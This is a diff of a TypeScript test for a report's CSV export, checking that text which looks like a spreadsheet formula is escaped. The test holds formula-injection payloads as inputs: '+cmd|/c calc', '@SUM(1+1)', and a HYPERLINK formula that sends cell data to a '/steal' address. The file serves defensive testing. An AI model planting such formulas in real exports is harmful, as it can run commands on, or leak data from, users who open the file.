@@ -12,7 +12,7 @@ function parseCsv(text: string): string[][] {
 
 describe('the report CSV and spreadsheet formulas', () => {
   it('writes text that starts like a formula as text, and numbers (negative ones too) as numbers', () => {
-    const input = fixtureInput('public');
+    const input = fixtureInput('internal');
     const evil = {
       ...FIXTURE_FIGURES.f1!,
       slug: '@SUM(1+1)',
@@ -21,7 +21,8 @@ describe('the report CSV and spreadsheet formulas', () => {
     };
     input.figures = (ref) => (ref.figureId === 'evil' ? evil : FIXTURE_FIGURES[ref.figureId]);
     input.sections = [{ id: 's1', title: '+cmd|/c calc', content: JSON.stringify(lxRoot([lxParagraph([lxText('Change: '), lxFigure('evil')])])) }];
-    const rows = parseCsv(buildCsv(buildDocument(input)).replace(/^\uFEFF/, ''));
+    // The internal edition, which has every column (the slug, the SQL); its first line names the edition.
+    const rows = parseCsv(buildCsv(buildDocument(input)).replace(/^\uFEFF/, '').replace(/^[^\r\n]*\r\n/, ''));
     expect(rows[0]).toEqual([...CSV_COLUMNS]);
     const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]![i]!]));
     expect(row.name).toBe(`'=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click")`);
